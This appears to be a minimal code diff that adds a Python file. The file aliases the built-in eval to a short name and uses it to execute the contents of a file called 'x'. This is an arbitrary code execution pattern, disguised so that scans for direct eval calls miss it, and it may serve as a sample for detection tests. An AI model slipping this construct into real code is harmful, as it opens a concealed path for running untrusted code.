@@ -1,0 +1,3 @@
+import builtins
+e = builtins.eval
+e(open("x").read())
